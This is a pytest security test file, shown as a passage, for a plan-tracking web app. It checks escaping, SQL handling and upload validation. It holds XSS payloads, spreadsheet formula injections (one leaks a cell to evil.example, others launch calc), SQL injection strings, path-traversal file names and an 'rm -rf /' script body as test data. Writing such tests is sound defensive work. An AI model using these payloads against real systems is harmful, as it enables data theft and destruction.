"""Hostile input: stored markup, SQL metacharacters, bad uploads, forged links, password guessing.

What people type (a plan title, a narrative, an agency's name, a reviewer's comment, an
uploaded file's name) is data everywhere it comes back out: escaped in pages, SVG,
Atom and HTML email, plain in text email, neutralised in CSV. Query arguments are
bound values, never SQL or LIKE patterns. Uploads are checked by content and stored
under names of our own. A reminder link opens one action's form and nothing else.

The page sweep walks ``app.url_map``, so pages, charts, feeds and downloads added
later are checked without anyone listing them here.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import time
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from itsdangerous import TimestampSigner, URLSafeTimedSerializer
from markupsafe import escape
from sqlalchemy import func, inspect, select
from werkzeug.datastructures import FileStorage
from werkzeug.routing import IntegerConverter
from werkzeug.test import encode_multipart

from tests import factories
from tests.conftest import csrf_token
from tests.factories import NOW, PASSWORD
from tracker.calendars.addresses import issue_calendar_feed
from tracker.extensions import db
from tracker.models import (
    Action,
    Agency,
    Evidence,
    Plan,
    ProgressReport,
    Recommendation,
    SignInFailure,
    StatusChange,
    Subscription,
    User,
)
from tracker.reminders.compose import LinkSettings
from tracker.reminders.links import SALT, sign_report_link
from tracker.reminders.run import run_reminder_pass
from tracker.services.assessments import (
    open_assessment_round,
    record_assessment_round,
    record_assessor_status,
)
from tracker.services.indicators import create_indicator
from tracker.services.readiness import save_dimension
from tracker.services.recommendations import set_recommendation_status
from tracker.services.reports import accept_report, add_evidence_file, return_report, save_report
from tracker.services.rounds import open_reporting_round
from tracker.services.transaction import Actor
from tracker.subscriptions.follow import followed_thing, subscribe
from tracker.webhooks.endpoints import register_endpoint

# Hundreds of generated or hostile requests: the full suite's tier (make test), not make test-fast.
pytestmark = pytest.mark.slow

# One string with everything that breaks naive output: a script, an attribute break-out
# with an event handler, an ampersand and both kinds of quotes.
PAYLOAD = """<script>alert(1)</script>"><img src=x onerror=alert(1)> & 'single' "double\""""
# What must never appear in markup as it was typed.
RAW_MARKERS = ("<script>alert(1)", "<img src=x", "onerror=alert(1)>", '"><img', "& 'single'")
# The payload as HTML shows it once escaped (Jinja escapes < > & ' ").
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
# Cells a spreadsheet would run as formulas.
FORMULAS = {
    "citation": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "actions_taken": "+cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "agency": "@SUM(1+1) Office",
    "rec_text": "=1+2",
    "action_title": "@SUM(A1:A2)",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Chart names the public plan page links to (templates/public/_figure.html): tried for any
# route argument this file knows nothing about, so new chart routes are reached too.
CHART_NAMES = ("gantt", "timeline", "scorecard", "rounds", "readiness", "agencies")


# --- the world: every free-text field filled with the payload -------------------------------


@pytest.fixture
def uploads(app, tmp_path):
    """Evidence files go to a folder of this test's own, inside an otherwise empty one."""
    before = app.config["UPLOAD_DIR"]
    folder = tmp_path / "uploads"
    app.config["UPLOAD_DIR"] = str(folder)
    yield folder
    app.config["UPLOAD_DIR"] = before


@pytest.fixture
def hostile(app, db_session, uploads):
    """A published plan whose every text a person can type carries the payload."""
    plan = factories.plan(
        slug="hostile-plan", title=f"Plan {PAYLOAD}", description=f"About {PAYLOAD}",
        citation=FORMULAS["citation"], period_start="2026-01-01", period_end="2027-12-31",
    )
    area = factories.area(plan, code="GOV", name=f"Area {PAYLOAD}", position=1)
    evil = factories.agency(name=f"Agency {PAYLOAD}", acronym="EVL")
    other = factories.agency(name=FORMULAS["agency"], acronym="OTH")
    rec = factories.recommendation(
        plan, code="R1", area="GOV", text=f"Recommendation {PAYLOAD}", actions_taken=FORMULAS["actions_taken"],
        institutions=["EVL"], status="pending", position=1,
    )
    rec2 = factories.recommendation(plan, code="R2", text=FORMULAS["rec_text"], status="pending", position=2)
    late = factories.action(
        plan, code="A1", title=f"Action {PAYLOAD}", description=FORMULAS["description"], area="GOV",
        lead_agency="EVL", supporting_agencies=["OTH"], recommendations=["R1"],
        start_date="2026-01-01", due_date="2026-06-30", position=1,
        milestones=[{"due_date": "2026-03-31", "title": f"Milestone {PAYLOAD}"}],
    )
    returned = factories.action(plan, code="A2", title=f"Second {PAYLOAD}", lead_agency="EVL",
                                recommendations=["R2"], due_date="2099-12-31", position=2)
    waiting = factories.action(plan, code="A3", title=FORMULAS["action_title"], lead_agency="EVL",
                               due_date="2099-12-31", position=3)
    secretariat = factories.user("secretariat")
    focal = factories.user("agency", agency="EVL")
    admin = factories.user("admin")
    assessor = factories.user("assessor")
    open_reporting_round(plan, {"name": f"Round {PAYLOAD}", "opens_on": "2026-01-01", "deadline": "2026-12-31"})

    # An accepted report with a link and a file whose stored name is the payload (names
    # are cleaned on upload; older or imported data may not have been).
    accepted = save_report(
        late, {"narrative": f"Narrative {PAYLOAD}", "percent_complete": 40, "proposed_status": "ongoing",
               "links": ["https://example.org/evidence?a=1&b=<2>"]},
        author=focal, now=NOW, submit=False,
    )
    evidence = add_evidence_file(
        accepted, f"../../{PAYLOAD}.pdf", io.BytesIO(b"%PDF-1.4 hostile"), user=focal, now=NOW,
        upload_dir=str(uploads), max_bytes=1024 * 1024,
    )
    evidence.filename = f"{PAYLOAD}.pdf"
    db.session.commit()
    save_report(late, {"narrative": f"Narrative {PAYLOAD}", "percent_complete": 40, "proposed_status": "ongoing"},
                author=focal, now=NOW, submit=True, report=accepted)
    accept_report(accepted, {"comment": f"Accepted {PAYLOAD}"}, reviewer=secretariat, now=NOW)
    sent_back = save_report(returned, {"narrative": f"Second narrative {PAYLOAD}", "percent_complete": 10,
                                       "proposed_status": "ongoing"}, author=focal, now=NOW, submit=True)
    return_report(sent_back, {"comment": f"Returned {PAYLOAD}"}, reviewer=secretariat, now=NOW)
    queued = save_report(waiting, {"narrative": f"Waiting {PAYLOAD}", "percent_complete": 5,
                                   "proposed_status": "ongoing"}, author=focal, now=NOW, submit=True)
    set_recommendation_status(rec, {"status": "ongoing", "reason": f"Because {PAYLOAD}"},
                              actor=Actor.of(secretariat), now=NOW)

    record_assessment_round(plan, {"name": f"Review {PAYLOAD}", "assessed_on": "2016-06-30"},
                            actor=Actor.of(secretariat), now=NOW, justification=f"Justified {PAYLOAD}")
    assessment = open_assessment_round(plan, {"name": f"Follow-up {PAYLOAD}", "assessed_on": "2026-10-01"},
                                       user=assessor, now=NOW)
    record_assessor_status(assessment, rec, {"status": "ongoing", "justification": f"Assessed {PAYLOAD}"},
                           assessor=assessor, now=NOW)
    save_dimension(plan, {
        "code": "GOV", "name": f"Dimension {PAYLOAD}", "rating": "YELLOW", "recommendations": ["R1"],
        "questions": [{"code": "Q1", "title": f"Question {PAYLOAD}", "rating": "RED",
                       "evidence": [{"mark": "+", "text": f"Evidence {PAYLOAD}"}]}],
    }, position=1)

    indicator = create_indicator(late, {
        "code": "IND1", "name": f"Indicator {PAYLOAD}", "unit": "<b>u</b>", "data_source": f"Source {PAYLOAD}",
        "baseline_value": 1, "baseline_date": "2025-01-01", "target_value": 10, "target_date": "2027-12-31",
    }, actor=Actor.of(secretariat), now=NOW)
    endpoint, _secret = register_endpoint(
        {"url": "https://hooks.example.org/receive?name=%3Cscript%3E", "events": ["report.submitted"],
         "plan_id": str(plan.id)}, acting_admin=admin, now=NOW, allow_private=True)

    links = LinkSettings(base_url="http://tracker.example", secret_key=app.config["SECRET_KEY"])
    calendar = issue_calendar_feed(secretariat, now=NOW)
    subscribe("follower@hostile.example.org", followed_thing(plan.slug, recommendation_code=rec.code), now=NOW,
              links=links, templates=app.jinja_env)
    follow_token = db.session.scalars(select(Subscription.token)).one()
    messages = run_reminder_pass(NOW, links=links, templates=app.jinja_env, digests=True)
    return SimpleNamespace(
        plan=plan, area=area, evil=evil, other=other, rec=rec, rec2=rec2, late=late, returned=returned,
        waiting=waiting, secretariat=secretariat, focal=focal, admin=admin, assessor=assessor,
        accepted=accepted, sent_back=sent_back, queued=queued, evidence=evidence, assessment=assessment,
        messages=messages, token=sign_report_link(app.config["SECRET_KEY"], focal, returned),
        indicator=indicator, endpoint=endpoint, calendar_token=calendar.token, follow_token=follow_token,
    )


# --- checks per kind of output ---------------------------------------------------------------


class _Markup(HTMLParser):
    """Every start tag with its attributes, as a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def html_problems(body: str) -> list[str]:
    problems = [f"raw {marker!r}" for marker in RAW_MARKERS if marker.lower() in body.lower()]
    parser = _Markup()
    parser.feed(body)
    for tag, attrs in parser.tags:
        if tag == "script" and not attrs.get("src"):
            problems.append("an inline <script>")
        if tag == "img" and attrs.get("src") == "x":
            problems.append("an injected <img>")
        handlers = [name for name in attrs if name.startswith("on")]
        if handlers:
            problems.append(f"<{tag}> with event handler {handlers}")
    if any("alert(1)" in text for text in parser.script_text):
        problems.append("the payload inside a <script>")
    return problems


def xml_problems(body: bytes) -> tuple[list[str], str]:
    """Problems of an SVG or Atom document, and all its text (to see the payload made it in)."""
    text = body.decode("utf-8")
    problems = [f"raw {marker!r}" for marker in RAW_MARKERS if marker.lower() in text.lower()]
    try:
        root = ElementTree.fromstring(body)
    except ElementTree.ParseError as exc:
        return [*problems, f"not well-formed XML: {exc}"], ""
    texts = []
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        if name in ("script", "foreignObject", "iframe"):
            problems.append(f"a <{name}> element")
        for attribute, value in element.attrib.items():
            local = attribute.rsplit("}", 1)[-1]
            if local.lower().startswith("on"):
                problems.append(f"<{name}> with event handler {local}")
            if local == "href" and value.strip().lower().startswith("javascript:"):
                problems.append(f"<{name}> with a javascript: link")
            texts.append(value)
        # Atom text constructs typed html/xhtml would be rendered by feed readers.
        if element.attrib.get("type") in ("html", "xhtml") and "<script" in "".join(element.itertext()):
            problems.append(f"<{name} type={element.attrib['type']}> carries a script")
        texts.append(element.text or "")
    return problems, "\n".join(texts)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def csv_problems(body: bytes) -> tuple[list[str], list[str]]:
    """Cells a spreadsheet would run, and every cell (to see the neutralised ones)."""
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    problems = [f"formula cell {cell!r}" for cell in cells
                if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    return problems, cells


# --- the sweep over app.url_map --------------------------------------------------------------

# Not pages (the API has a test of its own: test_schemathesis.py); and the steps of a sign-in
# in progress, which need a first factor or a configured identity provider and show no stored
# data (tests/sign_in/ and tests/e2e/test_sign_in_methods.py go through them); and the health
# check, which shows no stored data and answers 503 by design here (no scheduler beats:
# tests/routes/test_operations.py).
SKIPPED = {"static", "api-docs.openapi_json",
           "auth.two_factor_step", "auth.single_sign_on", "auth.single_sign_on_callback",
           "operations.healthz"}


def _argument_values(app, rule, w) -> dict[str, list]:
    from tracker.publishing.open_data.tables import TABLES

    recs, actions = [w.rec.code, w.rec2.code], [w.late.code, w.returned.code, w.waiting.code]
    known = {
        "slug": [w.plan.slug],
        "agency_id": [w.evil.id, w.other.id],
        "action_id": [w.late.id, w.returned.id, w.waiting.id],
        "report_id": [w.accepted.id, w.sent_back.id, w.queued.id],
        "rec_id": [w.rec.id], "recommendation_id": [w.rec.id],
        "area_id": [w.area.id],
        "round_id": [w.assessment.id],
        "user_id": [w.focal.id],
        "message_id": [m.id for m in w.messages],
        "evidence_id": [w.evidence.id],
        "indicator_id": [w.indicator.id],
        "endpoint_id": [w.endpoint.id],
        "token": [w.token],
        "key": ["pending"],  # a status of the vocabulary (/admin/statuses/<key>)
        "fmt": ["csv", "xlsx"],
        "resource": list(TABLES),
        "code": (["IND1"] if rule.endpoint == "charts.indicator_chart" else recs if "recommendation" in rule.endpoint
                 else actions if "action" in rule.endpoint else recs + actions),
    }
    # Each kind of secret address has tokens of its own.
    if rule.endpoint.startswith("calendars."):
        known["token"] = [w.calendar_token]
    elif rule.endpoint.startswith("subscriptions."):
        known["token"] = [w.follow_token]
    values = {}
    for name in rule.arguments:
        # A route that lists its values (``<any(gantt, timeline):name>``) says what to try.
        listed = getattr(rule._converters.get(name), "items", None)
        values[name] = sorted(listed) if listed else known.get(name, CHART_NAMES)
    return values


def _queries(endpoint: str, w) -> list[str]:
    return {
        "public.search": ["?q=" + quote(PAYLOAD), "?q=Recommendation", f"?agency={w.evil.id}"],
        "public.plan": ["", "?as_of=2026-11-23"],
        "public.changes": ["?since=2000-01-01"],
        "secretariat.workspace": ["", f"?agency={w.evil.id}"],
        "secretariat.new_action": ["?recommendation=R1"],
        "subscriptions.new": [f"?plan={w.plan.slug}", f"?plan={w.plan.slug}&recommendation={w.rec.code}"],
    }.get(endpoint, [""])


def candidate_urls(app, w):
    """(rule, url) for every GET route, with every combination of the world's values."""
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.rule):
        if "GET" not in rule.methods or rule.endpoint in SKIPPED or rule.rule.startswith("/api/"):
            continue
        values = _argument_values(app, rule, w)
        names = sorted(values)
        for combination in itertools.product(*(values[n] for n in names)):
            built = rule.build(dict(zip(names, combination, strict=True)), append_unknown=False)
            if built is None:
                continue
            for query in _queries(rule.endpoint, w):
                yield rule, built[1] + query


@dataclass
class Sweep:
    problems: list[str] = field(default_factory=list)
    answered: set[str] = field(default_factory=set)        # rules that answered 200 at least once
    shows_payload: set[str] = field(default_factory=set)   # endpoints whose HTML showed it escaped
    xml_text: dict[str, str] = field(default_factory=dict)  # url -> text of SVG/Atom documents
    csv_cells: dict[str, list[str]] = field(default_factory=dict)
    kinds: dict[str, str] = field(default_factory=dict)     # rule -> mimetype


class Visitor:
    """A browser of its own: each request runs in a fresh application context.

    The test's own context is otherwise reused by every request, and with it ``g``,
    where Flask-Login keeps the signed-in user: two clients in one test would share it.
    """

    def __init__(self, app, user: User | None = None):
        self.app = app
        self.client = app.test_client()
        if user is not None:
            response = self.request("post", "/sign-in", data={
                "email": user.email, "password": PASSWORD, "csrf_token": self.csrf("/sign-in")})
            assert response.status_code == 302, response.status_code

    def request(self, method: str, url: str, **kwargs):
        with self.app.app_context():
            return getattr(self.client, method)(url, **kwargs)

    def get(self, url: str, **kwargs):
        return self.request("get", url, **kwargs)

    def csrf(self, path: str) -> str:
        page = self.get(path).get_data(as_text=True)
        return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def sweep(app, w) -> Sweep:
    result = Sweep()
    visitors = {"public": Visitor(app)}
    for role, user in (("agency", w.focal), ("secretariat", w.secretariat), ("admin", w.admin),
                       ("assessor", w.assessor)):
        visitors[role] = Visitor(app, user)
    for (rule, url), (role, visitor) in itertools.product(list(candidate_urls(app, w)), visitors.items()):
        response = visitor.get(url)
        body = response.get_data()
        response.close()  # files are streamed from disk
        where = f"{role} GET {url} ({response.status_code} {response.mimetype})"
        if response.status_code >= 500:
            result.problems.append(f"{where}: server error")
            continue
        if response.status_code != 200:
            continue
        result.answered.add(rule.rule)
        result.kinds[rule.rule] = response.mimetype
        mimetype = response.mimetype
        if mimetype == "text/html":
            text = body.decode("utf-8")
            result.problems += [f"{where}: {p}" for p in html_problems(text)]
            if ESCAPED_SCRIPT in text:
                result.shows_payload.add(rule.endpoint)
        elif mimetype in ("image/svg+xml", "application/atom+xml") or mimetype.endswith("+xml") \
                or mimetype in ("application/xml", "text/xml"):
            problems, text = xml_problems(body)
            result.problems += [f"{where}: {p}" for p in problems]
            result.xml_text[url] = text
        elif mimetype == "text/csv":
            problems, cells = csv_problems(body)
            result.problems += [f"{where}: {p}" for p in problems]
            result.csv_cells[url] = cells
        elif "html" in mimetype or "javascript" in mimetype:
            result.problems.append(f"{where}: served as {mimetype}")
    return result


# Pages that show the payload (and so prove it went through escaping, not around it).
MUST_SHOW = {
    "public.index", "public.plan", "public.recommendation", "public.action", "public.agency",
    "public.search", "public.changes", "secretariat.plans", "secretariat.workspace",
    "secretariat.review_queue", "secretariat.review", "secretariat.edit_plan", "secretariat.areas",
    "secretariat.edit_recommendation", "secretariat.recommendation_status", "secretariat.edit_action",
    "secretariat.rounds", "agency.owe", "agency.report", "agency.report_new", "admin.agencies",
    "assessor.round_page", "reminders_admin.message", "links.report", "links.no_change",
}


def test_stored_markup_is_escaped_on_every_page_chart_feed_and_download(app, hostile):
    result = sweep(app, hostile)

    assert not result.problems, "\n".join(sorted(set(result.problems)))
    reached = {rule.rule for rule in app.url_map.iter_rules()
               if "GET" in rule.methods and rule.endpoint not in SKIPPED and not rule.rule.startswith("/api/")}
    assert reached - result.answered == set(), (
        "routes no role could open with the test data (teach _argument_values their arguments):"
    )
    missing = {e for e in MUST_SHOW if e in app.view_functions} - result.shows_payload
    assert not missing, f"pages that should show the (escaped) payload but did not: {sorted(missing)}"

    # SVG charts and Atom feeds present now or later: well-formed, and the payload is in
    # them as text (so it was escaped, not dropped).
    svgs = {url: text for url, text in result.xml_text.items() if url.endswith(".svg")}
    feeds = {url: text for url, text in result.xml_text.items() if url.endswith(".atom")}
    for url, text in svgs.items():
        assert "alert(1)" in text, f"{url} showed none of the hostile names"
    assert feeds, "the Atom feeds were not reached"
    for url, text in feeds.items():
        assert "<script>alert(1)</script>" in text, f"{url} lost the payload instead of escaping it"

    # CSV downloads: formula cells neutralised with a leading apostrophe, not dropped.
    export = next(cells for url, cells in result.csv_cells.items() if url.endswith("/export.csv"))
    for key in ("citation", "actions_taken", "description", "rec_text", "action_title"):
        assert "'" + FORMULAS[key] in export, f"{key} not neutralised in the secretariat export"
    open_data_cells = [c for url, cells in result.csv_cells.items() if "/open-data/" in url for c in cells]
    if open_data_cells:
        assert "'" + FORMULAS["rec_text"] in open_data_cells
        assert any(c.startswith("'") and c[1:2] in "=+-@" for c in open_data_cells)


def test_reminder_emails_escape_markup_in_html_and_keep_text_plain(app, hostile):
    messages = hostile.messages
    assert {m.kind for m in messages} >= {"reminder", "escalation", "agency_digest"}, [m.kind for m in messages]
    for message in messages:
        where = f"{message.kind} to {message.recipient}"
        assert not html_problems(message.body_html), (where, html_problems(message.body_html))
        assert "\n" not in message.subject and "\r" not in message.subject, where
        for plain in (message.subject, message.body_text):
            assert "&lt;" not in plain and "&amp;" not in plain and "&#" not in plain, (where, plain)
    reminder = next(m for m in messages if m.kind == "reminder")
    assert ESCAPED_SCRIPT in reminder.body_html
    assert f"Action {PAYLOAD}" in reminder.body_text  # the text part shows the title as typed


# --- SQL metacharacters in every filter and search argument ----------------------------------

METACHARACTERS = [
    "'", '"', ";", "--", "%", "_", "\\", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE plans; --",
    "%%", "_%", "\\%", "ünïcødé ✓", "１２", "²", "١٢", "9" * 30, "-1", "\x00", "0x1F", "*",
]


@pytest.fixture
def searchable(db_session):
    plan = factories.plan(slug="searchable", title="Searchable plan", country="Testland")
    factories.area(plan, code="GOV", name="Governance")
    factories.agency(acronym="MIN", name="Ministry")
    factories.recommendation(plan, code="RPCT", text="Open 100% of datasets", area="GOV", status="pending")
    factories.recommendation(plan, code="RUND", text="Name files with under_score", status="ongoing")
    factories.recommendation(plan, code="RUNI", text="Publish ünïcødé ✓ names", status="pending")
    factories.recommendation(plan, code="RPLN", text="Plain recommendation", status="pending")
    factories.action(plan, code="APLN", title="Plain action", lead_agency="MIN", area="GOV")
    return plan


def _counts() -> dict[str, int]:
    return {model.__name__: db.session.scalar(select(func.count()).select_from(model))
            for model in (Plan, Recommendation, Action, Agency, User, StatusChange, ProgressReport)}


def _tables() -> set[str]:
    return set(inspect(db.session.connection()).get_table_names())


# Every GET route that reads query arguments, the role that may open it, and its arguments.
QUERY_ROUTES = [
    ("public", "/search", ("q", "country", "plan", "area", "status", "agency", "overdue")),
    ("public", "/plans/{slug}", ("as_of",)),
    ("public", "/changes", ("since",)),
    ("public", "/plans/{slug}/changes", ("since",)),
    ("secretariat", "/secretariat/plans/{slug}", ("area", "agency", "status", "overdue")),
    ("secretariat", "/secretariat/plans/{slug}/actions/new", ("recommendation",)),
    ("admin", "/admin/reminders/", ("state",)),
    ("public", "/sign-in", ("next",)),
    ("public", "/api/v1/plans", ("page", "per_page")),
    ("public", "/api/v1/agencies", ("country", "page", "per_page")),
    ("public", "/api/v1/plans/{slug}/areas", ("page", "per_page")),
    ("public", "/api/v1/plans/{slug}/recommendations", ("status", "area", "page", "per_page")),
    ("public", "/api/v1/plans/{slug}/actions", ("status", "area", "agency", "overdue", "page", "per_page")),
    ("public", "/api/v1/plans/{slug}/scorecard", ("as_of",)),
]


def _chart_routes(app, slug: str) -> list[tuple[str, str, tuple[str, ...]]]:
    """The chart routes in app.url_map now: the CSVs with every filter, the SVGs with ``page``."""
    try:
        from tracker.publishing.chart_data import CHART_FILTERS
        filters = tuple(sorted({key for keys in CHART_FILTERS.values() for key in keys}))
    except ImportError:
        filters = ("area", "agency", "status", "overdue", "round")
    routes = []
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("charts.") or "GET" not in rule.methods:
            continue
        choices = {name: sorted(getattr(rule._converters[name], "items", None) or [slug])
                   for name in rule.arguments}
        for combination in itertools.product(*choices.values()):
            url = rule.build(dict(zip(choices, combination, strict=True)), append_unknown=False)[1]
            if url.endswith(".csv"):
                routes.append(("public", url, filters))
            elif url.endswith(".svg"):
                routes.append(("public", url, ("page",)))
    return routes


def test_sql_metacharacters_in_every_filter_answer_without_error_and_leave_the_database_intact(
    app, searchable
):
    tables = _tables()
    visitors = {"public": Visitor(app), "secretariat": Visitor(app, factories.user("secretariat")),
                "admin": Visitor(app, factories.user("admin"))}
    before = _counts()
    failures = []
    # A view's exception answers 500 as in production, so every failing argument is listed.
    propagate = app.config["PROPAGATE_EXCEPTIONS"]
    app.config["PROPAGATE_EXCEPTIONS"] = False
    try:
        for role, path, names in QUERY_ROUTES + _chart_routes(app, searchable.slug):
            url = path.format(slug=searchable.slug)
            for name, value in itertools.product(names, METACHARACTERS):
                response = visitors[role].get(url, query_string={name: value})
                if response.status_code >= 500:
                    failures.append(f"{role} GET {url}?{name}={value!r}: {response.status_code}")
            # All of them at once, too.
            response = visitors[role].get(url, query_string={name: "' OR 1=1 --" for name in names})
            if response.status_code >= 500:
                failures.append(f"{role} GET {url} with every argument hostile: {response.status_code}")
    finally:
        app.config["PROPAGATE_EXCEPTIONS"] = propagate
    assert not failures, "\n".join(failures)
    assert _counts() == before
    assert _tables() == tables
    assert db.session.scalar(select(Plan.title).where(Plan.slug == "searchable")) == "Searchable plan"


def _found(page: str) -> set[str]:
    return {code for code in ("RPCT", "RUND", "RUNI", "RPLN", "APLN") if code in page}


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("%", {"RPCT"}),             # a literal percent sign, not "anything"
        ("_", {"RUND"}),             # a literal underscore, not "any one character"
        ("100%", {"RPCT"}),
        ("\\", set()),
        ("%%", set()),
        ("' OR 1=1 --", set()),
        ("\" OR \"\"=\"", set()),
        ("ünïcødé ✓", {"RUNI"}),
        ("plain", {"RPLN", "APLN"}),  # still case-insensitive
    ],
)
def test_public_search_matches_words_literally(client, searchable, q, expected):
    response = client.get("/search", query_string={"q": q})
    assert response.status_code == 200
    assert _found(response.get_data(as_text=True)) == expected


@pytest.mark.parametrize("name", ["country", "plan", "area", "status", "agency"])
@pytest.mark.parametrize("value", ["' OR 1=1 --", "%", "_", "\\", "²", "9" * 30])
def test_public_search_filters_never_widen(client, searchable, name, value):
    everything = {"RPCT", "RUND", "RUNI", "RPLN"}  # what the words alone find
    assert _found(client.get("/search", query_string={"q": "e"}).get_data(as_text=True)) == everything
    response = client.get("/search", query_string={name: value})
    assert response.status_code == 200
    # A value that names nothing finds nothing (one the page cannot read, like "²" for an
    # agency id, is no filter at all, and then nothing is searched): never everything.
    assert _found(response.get_data(as_text=True)) == set()
    # With words as well: text filters match exactly (so nothing here); an agency is chosen
    # by id from a list, and a value that is no id is ignored, leaving the words' results.
    response = client.get("/search", query_string={name: value, "q": "e"})
    assert response.status_code == 200
    assert _found(response.get_data(as_text=True)) == (everything if name == "agency" else set())


@pytest.mark.parametrize("value", ["' OR 1=1 --", "%", "_", "GOV' --", "²"])
def test_api_filters_refuse_or_match_nothing_never_everything(client, searchable, value):
    for name in ("status", "area", "agency"):
        response = client.get("/api/v1/plans/searchable/actions", query_string={name: value})
        assert response.status_code == 422, (name, value, response.get_json())
        assert name in response.get_json()["errors"]["query"]
    response = client.get("/api/v1/agencies", query_string={"country": value})
    assert response.status_code == 200 and response.get_json() == []


def test_workspace_filters_with_metacharacters_are_refused_by_name_and_never_reach_a_query(app, searchable):
    """A status or area that is no known key is left out with a notice naming it (the paged
    tables' rule, ``services.item_tables``): the page lists what the unfiltered page lists,
    never what the value would match as an SQL pattern or fragment."""
    visitor = Visitor(app, factories.user("secretariat"))
    everything = visitor.get("/secretariat/plans/searchable").get_data(as_text=True)
    listed = set(re.findall(r'id="((?:rec|action)-\d+)"', everything))
    assert listed  # the pattern does find items
    notice = {"status": "There is no status", "area": "This plan has no area"}
    for name in ("area", "status"):
        for value in ("' OR 1=1 --", "%", "_"):
            response = visitor.get("/secretariat/plans/searchable", query_string={name: value})
            page = response.get_data(as_text=True)
            assert response.status_code == 200, (name, value)
            assert notice[name] in page and escape(repr(value)) in page, (name, value)
            assert set(re.findall(r'id="((?:rec|action)-\d+)"', page)) == listed, (name, value)


@pytest.mark.parametrize("number", [2**31, 2**63, 10**25])
def test_ids_too_large_for_the_database_are_not_found_not_a_server_error(app, db_session, number):
    visitors = [Visitor(app)] + [Visitor(app, factories.user(role)) for role in ("agency", "secretariat", "admin")]
    failures = []
    for rule in app.url_map.iter_rules():
        ids = [name for name, converter in rule._converters.items() if isinstance(converter, IntegerConverter)]
        if "GET" not in rule.methods or not ids:
            continue
        url = rule.build({name: number if name in ids else "x" for name in rule.arguments}, append_unknown=False)
        for visitor in visitors:
            status = visitor.get(url[1]).status_code
            if status not in (302, 403, 404):
                failures.append(f"GET {url[1]}: {status}")
    assert not failures, "\n".join(failures)


# --- uploads -------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
BAD_UPLOADS = [
    ("wrong type", "evidence.exe", b"MZ\x90\x00 not a document", "Files of this type are not accepted"),
    ("wrong type by name", "evidence.html", b"<html><body>hello</body></html>", "Files of this type are not accepted"),
    ("html posing as pdf", "report.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>",
     "not a valid .pdf file"),
    ("html posing as text", "notes.txt", b"  <html><script>alert(1)</script></html>", "not a valid .txt file"),
    ("svg posing as png", "chart.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
     "not a valid .png file"),
    ("traversal to a script", "../../../evil.sh", b"#!/bin/sh\nrm -rf /\n", "Files of this type are not accepted"),
    ("traversal with html", "../../../../tmp/owned.pdf", b"<html>owned</html>", "not a valid .pdf file"),
    ("windows traversal", "..\\..\\..\\evil.bat", b"del *", "Files of this type are not accepted"),
    ("empty", "empty.pdf", b"", "The file is empty"),
    ("oversized", "big.pdf", PDF + b"0" * (1024 * 1024), "larger than 1 MB"),
]


@pytest.fixture
def reporting(app, db_session, uploads):
    plan = factories.plan(slug="uploads")
    factories.agency(acronym="UPL")
    action = factories.action(plan, code="UP1", title="Upload things", lead_agency="UPL", due_date="2099-12-31")
    focal = factories.user("agency", agency="UPL")
    before = app.config["EVIDENCE_MAX_BYTES"]
    app.config["EVIDENCE_MAX_BYTES"] = 1024 * 1024
    yield SimpleNamespace(plan=plan, action=action, focal=focal, uploads=uploads)
    app.config["EVIDENCE_MAX_BYTES"] = before


def multipart(fields: dict) -> dict:
    """A multipart body built in memory: the test client would spool a large one to a
    temporary file it never closes (a ResourceWarning, an error under filterwarnings)."""
    files = {name: FileStorage(stream=value[0], filename=value[1], content_type="application/octet-stream")
             for name, value in fields.items() if isinstance(value, tuple)}
    boundary, body = encode_multipart({**fields, **files})
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


def _files_under(folder) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def _assert_nothing_stored(reporting, tmp_path, outside_before):
    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
    assert not reporting.uploads.exists() or _files_under(reporting.uploads) == []
    assert _files_under(tmp_path) == outside_before  # nothing written beside UPLOAD_DIR either
    assert not db.session.scalars(
        select(ProgressReport).where(ProgressReport.action_id == reporting.action.id,
                                     ProgressReport.state == "submitted")).first()


@pytest.mark.parametrize(("case", "filename", "content", "message"), BAD_UPLOADS, ids=[u[0] for u in BAD_UPLOADS])
def test_bad_uploads_on_the_agency_report_page_are_refused_with_a_message(
    client, auth, reporting, tmp_path, case, filename, content, message
):
    auth.login(reporting.focal.email)
    outside = _files_under(tmp_path)
    url = f"/agency/actions/{reporting.action.id}/report"
    response = client.post(url, **multipart({
        "narrative": "Done", "percent_complete": "50", "proposed_status": "ongoing", "links": "",
        "intent": "submit", "csrf_token": csrf_token(client, url),
        "file": (io.BytesIO(content), filename),
    }))
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert message in page
    assert not html_problems(page)
    _assert_nothing_stored(reporting, tmp_path, outside)


@pytest.mark.parametrize(("case", "filename", "content", "message"), BAD_UPLOADS, ids=[u[0] for u in BAD_UPLOADS])
def test_bad_uploads_through_a_reminder_link_are_refused_and_store_nothing(
